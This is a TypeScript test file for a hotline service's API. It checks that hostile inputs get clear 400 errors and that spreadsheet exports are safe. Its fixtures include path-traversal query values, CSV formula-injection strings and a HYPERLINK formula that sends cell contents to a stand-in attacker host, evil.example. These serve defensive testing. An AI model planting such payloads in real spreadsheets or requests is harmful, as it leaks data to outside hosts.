import { expect } from 'chai';
import ExcelJS from 'exceljs';
import { clock } from '../../server/lib/clock.ts';
import { uniq } from '../helpers/factories.ts';
import { testApp } from '../helpers/test-app.ts';
import { hotline, ok, type Hotline } from '../helpers/tickets.ts';
import { call } from '../helpers/calls.ts';
import { sheetNames } from '../../server/domain/reports/report-export.ts';

// What a hostile tester sent to get a 500 or a formula into a report: each is a 400 naming the field, or simply works.
describe('hostile input: clear 400s, safe reports', () => {
  let h: Hotline;
  const MONTH = '2032-05';
  const download = async (path: string) => {
    const res = await fetch(`${h.supervisor.baseUrl}${path}`, {
      headers: { authorization: `Bearer ${h.supervisor.token}` },
    });
    return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()) };
  };
  before(async () => {
    h = await hotline();
    clock.set(new Date('2032-06-10T10:00:00+08:00'));
  });
  beforeEach(async () => {
    await h.signInAgain();
  });

  it('answers GET /stats/calls with a path in from or to with 400 naming the field', async () => {
    for (const [q, field] of [
      ['from=../&to=2032-05-01', 'from'],
      ['from=2032-05-01&to=..%2F', 'to'],
      ['from=../&to=../', 'from'],
    ] as const) {
      const res = await h.supervisor.get(`/api/v1/stats/calls?${q}`);
      expect(res.status, q).to.equal(400);
      expect(
        res.body.error.details.map((d: { path: string }) => d.path),
        q,
      ).to.include(field);
    }
    expect((await h.supervisor.get('/api/v1/stats/calls?from=2032-05-01&to=2032-05-31')).status).to.equal(200);
  });

  it('answers a call that started in the year 0 with 400 naming started_at, and stores nothing', async () => {
    const { services } = await testApp();
    const before = Number((await services.db('calls').count({ n: '*' }).first())!.n);
    const res = await h.operator.post('/api/v1/calls', call({ started_at: '0000-01-01T00:00:00+08:00' }));
    expect(res.status).to.equal(400);
    expect(res.body.error.details.map((d: { path: string }) => d.path)).to.include('started_at');
    expect(Number((await services.db('calls').count({ n: '*' }).first())!.n)).to.equal(before);
  });

  it("names sheets by Excel's rules: no * ? : \\ / [ ], not History, at most 31 characters, unique", () => {
    const names = sheetNames([
      'History',
      'history',
      'a*b?c:d\\e/f[g]',
      'x'.repeat(40),
      'x'.repeat(40) + 'y',
      "'quoted'",
      '😀'.repeat(20),
    ]);
    const all = [...names.values()];
    expect(new Set(all.map((n) => n.toLowerCase())).size).to.equal(7);
    for (const n of all) {
      expect(n).not.to.match(/[*?:\\/[\]]/);
      expect(n.length).to.be.at.most(31);
      expect(n.toLowerCase()).not.to.equal('history');
      expect(n).not.to.match(/^'|'$/);
    }
    expect(names.get('a*b?c:d\\e/f[g]')).to.equal('a_b_c_d_e_f_g_');
  });

  describe('a department report with groups and names a spreadsheet would misread', () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"点此")';
    const groups = ['History', `组*?:\\/[]${Date.now()}`, `组${'长'.repeat(40)}`];
    before(async () => {
      const { services } = await testApp();
      await services.departments.create({
        name: formula,
        group: groups[0],
        email: `${uniq('d')}@dept.example`,
        head_email: `${uniq('h')}@dept.example`,
      });
      for (const name of ['+1 部门', '-2 部门', '@SUM(1) 部门']) {
        await services.departments.create({
          name: `${name}${uniq('')}`,
          group: groups[1],
          email: `${uniq('d')}@dept.example`,
          head_email: `${uniq('h')}@dept.example`,
        });
      }
      await services.departments.create({
        name: uniq('部门'),
        group: groups[2],
        email: `${uniq('d')}@dept.example`,
        head_email: `${uniq('h')}@dept.example`,
      });
    });

    it('writes the .xlsx with a valid sheet for each group and the names as text, never formulas', async () => {
      const res = await download(`/api/v1/reports/departments.xlsx?month=${MONTH}`);
      expect(res.status).to.equal(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.bytes as never);
      const names = wb.worksheets.map((w) => w.name);
      for (const n of names) expect(n.length).to.be.at.most(31);
      expect(names.map((n) => n.toLowerCase())).not.to.include('history');
      let found = 0;
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type, `${ws.name}!${cell.address}`).not.to.equal(ExcelJS.ValueType.Formula);
            if (cell.value === formula) {
              found++;
              expect(cell.type).to.equal(ExcelJS.ValueType.String);
            }
          }),
        ),
      );
      expect(found).to.equal(1);
      // Every group's own name is still in its rows' 分组 column.
      const groupCells = new Set<string>();
      wb.eachSheet((ws) =>
        ws.eachRow((row, i) => {
          if (i > 2) groupCells.add(String(row.getCell(2).value));
        }),
      );
      for (const g of groups) expect(groupCells).to.include(g);
    });

    it('writes the .csv with every cell that starts like a formula as text (a leading quote)', async () => {
      const res = await download(`/api/v1/reports/departments.csv?month=${MONTH}`);
      expect(res.status).to.equal(200);
      const lines = res.bytes.toString('utf8').slice(1).split('\r\n');
      const cells = lines.flatMap((l) => l.split(','));
      expect(lines.some((l) => l.startsWith(`"'=HYPERLINK(`))).to.equal(true);
      expect(lines.some((l) => l.startsWith("'+1 部门"))).to.equal(true);
      expect(lines.some((l) => l.startsWith("'-2 部门"))).to.equal(true);
      expect(lines.some((l) => l.startsWith("'@SUM(1) 部门"))).to.equal(true);
      for (const c of cells) expect(c, c).not.to.match(/^"?[=+\-@\t\r]/);
    });
  });

  it(
    'refuses to publish a board for a month before the service ' +
      'began (1999-01) with 409, storing and mailing nothing',
    async () => {
      const { services } = await testApp();
      // The service began with its first department or order, whichever came first (other suites' too: one database).
      const [d, t] = await Promise.all([
        services.db('departments').min({ m: 'created_at' }).first(),
        services.db('tickets').min({ m: 'created_at' }).first(),
      ]);
      const firstMonth = [d!.m, t!.m]
        .filter(Boolean)
        .map((m) => String(m).slice(0, 7))
        .sort()[0]; // stored UTC: the Beijing month is the same or one later
      const before = `${Number(firstMonth.slice(0, 4)) - 1}${firstMonth.slice(4)}`;
      for (const month of ['1999-01', before]) {
        const res = await h.supervisor.post(`/api/v1/leaderboards/${month}/publish`);
        expect(res.status, month).to.equal(409);
        expect(res.body.error.code).to.equal('INVALID_TRANSITION');
        expect(await services.db('leaderboards').where({ month }).first()).to.equal(undefined);
        expect(await services.db('outbox').where('subject', 'like', `%${month}%`)).to.have.length(0);
        expect(await services.leaderboard.prepare(month), `${month} is not prepared either`).to.equal(false);
      }
    },
  );

  describe('knowledge bodies at the edge of what the columns hold', () => {
    it('refuses a 20,000-emoji body with 400 naming body, and stores nothing', async () => {
      const { services } = await testApp();
      const before = Number((await services.db('knowledge_articles').count({ n: '*' }).first())!.n);
      const res = await h.supervisor.post('/api/v1/knowledge', { title: uniq('表情'), body: '😀'.repeat(20_000) });
      expect(res.status).to.equal(400);
      expect(res.body.error.details.map((d: { path: string }) => d.path)).to.include('body');
      expect(Number((await services.db('knowledge_articles').count({ n: '*' }).first())!.n)).to.equal(before);
    });

    it('stores the longest bodies it accepts, emoji and characters that NFKC grows, and finds them', async () => {
      const title = uniq('长文');
      const emoji = await ok(h.supervisor.post('/api/v1/knowledge', { title, body: '😀'.repeat(10_000) }), 201);
      expect((await ok(h.supervisor.get(`/api/v1/knowledge/${emoji.id}`))).body).to.have.length(20_000);
      // ﷺ is one character and 3 bytes, and 18 characters (33 bytes) once normalised for the search.
      const grown = await ok(
        h.supervisor.post('/api/v1/knowledge', { title: `${title}乙`, body: `${'ﷺ'.repeat(19_990)}末尾词` }),
        201,
      );
      const found = await ok(h.operator.get(`/api/v1/knowledge?q=${encodeURIComponent('末尾词')}&per_page=50`));
      expect(found.items.map((a: { id: number }) => a.id)).to.include(grown.id);
    });

    it('refuses keywords too long together for their column with 400 naming keywords', async () => {
      const res = await h.supervisor.post('/api/v1/knowledge', {
        title: uniq('关键词'),
        body: '正文',
        keywords: Array.from({ length: 30 }, (_, i) => `${i}${'"'.repeat(48)}`),
      });
      expect(res.status).to.equal(400);
      expect(res.body.error.details.map((d: { path: string }) => d.path)).to.include('keywords');
    });
  });
});
